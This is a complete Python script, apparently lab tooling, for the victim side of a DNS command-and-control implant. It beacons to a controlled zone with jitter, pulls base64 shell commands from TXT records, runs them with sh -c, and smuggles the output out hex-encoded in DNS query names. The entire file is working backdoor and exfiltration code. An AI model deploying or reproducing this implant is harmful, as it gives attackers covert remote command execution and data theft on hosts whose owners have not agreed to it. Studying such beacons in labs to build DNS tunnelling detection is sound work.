#!/usr/bin/python3
"""The lab's DNS implant (victim side, c2-dns-beacon): talks only to the resolver named in
/etc/resolv.conf, with raw UDP DNS like a stub resolver (random transaction id, a fresh socket and
so a fresh source port per query, RD set, 2 s timeout and one retry). Polls A <id>.ZONE every
PERIOD s with uniform jitter +-JITTER (seeded) for COUNT polls; when the answer is 0.0.0.1 it
fetches the task (TXT t<seq>.<id>.ZONE, base64), runs it with sh -c (10 s at most) and uploads
the output in A queries <hex>.<hex>.<seq>-<chunk>.r.<id>.ZONE (60 hex chars a label, 2 labels a
query), then A e<seq>-<nchunks>.r.<id>.ZONE. Bounded by COUNT.

    dns-beacon-agent.py ZONE IMPLANT_ID PERIOD JITTER COUNT
"""
import base64, random, socket, struct, subprocess, sys, time

ZONE, ID, PERIOD, JITTER, COUNT = sys.argv[1], sys.argv[2], float(sys.argv[3]), float(sys.argv[4]), int(sys.argv[5])
A, TXT = 1, 16
jitter = random.Random(20261207)
txids = random.SystemRandom()


def resolver():
    with open("/etc/resolv.conf") as f:
        for line in f:
            p = line.split()
            if len(p) >= 2 and p[0] == "nameserver":
                return p[1]
    raise SystemExit("no nameserver in /etc/resolv.conf")


NS = resolver()


def log(*a):
    print(time.strftime("%H:%M:%S"), *a, flush=True)


def query(name, qtype):
    """The answer's RDATA list (bytes) or None on timeout/error."""
    qname = b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0"
    for attempt in (1, 2):
        txid = txids.randrange(65536)
        pkt = struct.pack("!HHHHHH", txid, 0x0100, 1, 0, 0, 0) + qname + struct.pack("!HH", qtype, 1)
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.settimeout(2.0)
        try:
            s.sendto(pkt, (NS, 53))
            while True:
                data, peer = s.recvfrom(4096)
                if peer[0] == NS and data[:2] == pkt[:2]:
                    break
            return parse_answers(data)
        except socket.timeout:
            log("timeout", name, "attempt", attempt)
        finally:
            s.close()
    return None


def skip_name(data, i):
    while True:
        n = data[i]
        if n == 0:
            return i + 1
        if n & 0xC0:
            return i + 2
        i += 1 + n


def parse_answers(data):
    flags, qd, an = struct.unpack("!HHH", data[2:8])
    if flags & 0xF:
        return []
    i = 12
    for _ in range(qd):
        i = skip_name(data, i) + 4
    out = []
    for _ in range(an):
        i = skip_name(data, i)
        t, _, _, ln = struct.unpack("!HHIH", data[i:i + 10])
        out.append((t, data[i + 10:i + 10 + ln]))
        i += 10 + ln
    return out


def run_task(seq):
    ans = query("t%d.%s.%s" % (seq, ID, ZONE), TXT)
    rd = [r for t, r in (ans or []) if t == TXT]
    if not rd:
        log("task", seq, "fetch failed")
        return
    raw = b""
    i = 0
    while i < len(rd[0]):
        n = rd[0][i]
        raw += rd[0][i + 1:i + 1 + n]
        i += 1 + n
    cmd = base64.b64decode(raw).decode()
    log("task", seq, repr(cmd))
    try:
        out = subprocess.run(["/bin/sh", "-c", cmd], capture_output=True, timeout=10).stdout
    except subprocess.TimeoutExpired as e:
        out = e.stdout or b""
    h = out.hex()
    parts = [h[i:i + 120] for i in range(0, len(h), 120)]
    for n, part in enumerate(parts):
        labels = ".".join(part[j:j + 60] for j in range(0, len(part), 60))
        query("%s.%d-%d.r.%s.%s" % (labels, seq, n, ID, ZONE), A)
        time.sleep(0.05)
    query("e%d-%d.r.%s.%s" % (seq, len(parts), ID, ZONE), A)
    log("task", seq, "result uploaded:", len(out), "bytes in", len(parts), "queries")


seq = 0
for i in range(1, COUNT + 1):
    t0 = time.time()
    ans = query("%s.%s" % (ID, ZONE), A)
    ips = [socket.inet_ntoa(r) for t, r in (ans or []) if t == A and len(r) == 4]
    log("poll", i, ips)
    if ips == ["0.0.0.1"]:
        seq += 1
        run_task(seq)
    if i < COUNT:
        time.sleep(max(0.5, PERIOD * (1 + jitter.uniform(-JITTER, JITTER)) - (time.time() - t0)))
